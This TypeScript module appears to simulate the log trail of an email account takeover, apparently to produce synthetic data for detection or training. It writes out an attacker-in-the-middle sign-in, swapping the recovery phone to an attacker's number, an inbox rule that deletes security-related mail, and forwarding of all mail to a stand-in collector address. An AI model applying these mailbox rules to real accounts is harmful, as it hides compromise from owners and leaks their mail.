/** What attackers do once they are inside an account: ways to come back, and to keep the owner in the dark. */
import { phoneChange, securityInfo, self } from './audit-shape.ts';
import type { Device } from './devices.ts';
import { mailboxAct } from './mailbox-shape.ts';
import { type Scene, SECOND } from './options.ts';
import { phoneNumber, type Resident } from './people.ts';
import type { Spot } from './places.ts';
import { riskDetection } from './risk-shape.ts';
import { signIn } from './sign-in-shape.ts';

/** Where the attackers are when they are in. */
export interface Inside {
  readonly person: Resident;
  readonly spot: Spot;
  readonly device: Device;
}

/** One prepaid phone serves several victims. */
export const ATTACKER_PHONE = phoneNumber(79_999);
const COLLECTOR = 'collector@example.net';

/** A sign-in through a page that passes password and code on; Identity Protection has its doubts. */
export function relayedSignIn(scene: Scene, { person, spot, device }: Inside, at: number): void {
  const request = signIn(scene, { account: person, at, spot, device, factor: 'Text message', app: 'OfficeHome' });
  const facts = { account: person, at, spot, device, request, state: 'atRisk' } as const;
  riskDetection(scene, { ...facts, type: 'anonymizedIPAddress', timing: 'realtime' });
  riskDetection(scene, { ...facts, type: 'attackerinTheMiddle', timing: 'offline', level: 'high' });
}

/** The attackers' phone becomes the recovery phone. */
export function registerPhone(scene: Scene, { person, spot, device }: Inside, at: number): void {
  const base = { account: person, correlationId: scene.random.uuid(), doer: self(person, spot, device) };
  securityInfo(scene, { ...base, at: at - 50 * SECOND, activity: 'User started security info registration' });
  securityInfo(scene, {
    ...base,
    at,
    activity: 'User registered security info',
    method: 'Mobile Phone SMS',
    reason: 'User registered Mobile Phone SMS',
  });
  phoneChange(scene, {
    account: person,
    at: at + SECOND,
    doer: { account: person, ip: '' },
    from: person.number,
    to: ATTACKER_PHONE,
  });
}

/** A rule that deletes what would warn the owner. */
export function hideMail(scene: Scene, { person, spot }: Inside, at: number): void {
  const parameters = {
    Name: '.',
    SubjectOrBodyContainsWords: 'security;password;verification;sign-in',
    DeleteMessage: 'True',
    MarkAsRead: 'True',
    StopProcessingRules: 'True',
  };
  mailboxAct(scene, { account: person, at, operation: 'New-InboxRule', ip: spot.ip, parameters });
}

/** Every mail goes to the attackers as well. */
export function forwardMail(scene: Scene, { person, spot }: Inside, at: number): void {
  const parameters = {
    Identity: person.upn,
    ForwardingSmtpAddress: `smtp:${COLLECTOR}`,
    DeliverToMailboxAndForward: 'True',
  };
  mailboxAct(scene, { account: person, at, operation: 'Set-Mailbox', ip: spot.ip, parameters });
}
